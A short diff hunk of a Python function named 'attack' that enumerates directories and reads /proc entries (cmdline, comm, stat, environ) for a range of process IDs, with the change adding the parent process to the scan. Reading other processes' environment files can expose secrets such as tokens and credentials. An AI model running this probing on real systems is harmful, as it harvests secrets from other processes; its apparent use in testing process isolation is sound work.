@@ -13,7 +13,7 @@ def attack():
             found.append(os.listdir(path)[:3])
         except OSError:
             continue
-    for pid in range(1, 400):
+    for pid in {*range(1, 400), os.getppid()} - {os.getpid()}:
         for name in ("cmdline", "comm", "stat", "environ"):
             try:
                 with open(f"/proc/{pid}/{name}", "rb") as file:
